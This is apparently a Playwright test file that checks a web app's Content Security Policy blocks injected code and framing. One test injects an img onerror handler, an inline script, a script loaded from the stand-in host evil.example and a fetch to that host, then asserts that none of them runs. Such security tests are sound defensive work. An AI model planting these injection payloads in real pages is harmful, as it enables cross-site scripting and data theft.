"""The content policy in a browser: our pages keep to it, and nothing that breaks it runs."""

from __future__ import annotations

import base64
import hashlib

from playwright.sync_api import expect

from osler.web.policy import POLICY
from tests.web_browser.conftest import Visits


def test_the_one_style_of_the_components_is_the_one_that_is_allowed(visit: Visits, served: str) -> None:
    page = visit(served + "/design")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    page.get_by_role("button").first.focus()
    styles = page.evaluate("[...document.querySelectorAll('style')].map(one => one.textContent)")
    hashes = [base64.b64encode(hashlib.sha256(one.encode()).digest()).decode() for one in styles]
    assert hashes, "the components need no style any more: take its hash out of the policy"
    assert [one for one in hashes if f"'sha256-{one}'" not in POLICY] == []


def test_a_script_that_somebody_slipped_in_does_not_run(visit: Visits, served: str) -> None:
    visit.expect_trouble("Content Security Policy")
    visit.expect_trouble("fetched from elsewhere: https://evil.example/x.js")  # it was asked for, and refused
    page = visit(served + "/")
    page.evaluate(
        """() => {
            const holder = document.createElement("div");
            holder.innerHTML = "<img src=x onerror='window.ran = 1'>";
            const script = document.createElement("script");
            script.textContent = "window.ran = 2";
            const far = document.createElement("script");
            far.src = "https://evil.example/x.js";
            document.body.append(holder, script, far);
            return fetch("https://evil.example/").catch(() => 0);
        }"""
    )
    assert page.evaluate("window.ran") is None
    assert any("script-src" in one for one in visit.trouble), "the browser reports what it kept from running"
    assert any("connect-src" in one for one in visit.trouble)


def test_no_page_can_show_ours_in_a_frame(visit: Visits, served: str) -> None:
    visit.expect_trouble("frame-ancestors")
    page = visit(served + "/")
    expect(page.get_by_role("heading", level=1)).to_be_visible()
    with page.expect_event("framenavigated") as navigated:
        page.evaluate("document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))")
    assert navigated.value.url.startswith("chrome-error:")
    assert any("frame-ancestors" in one for one in visit.trouble)
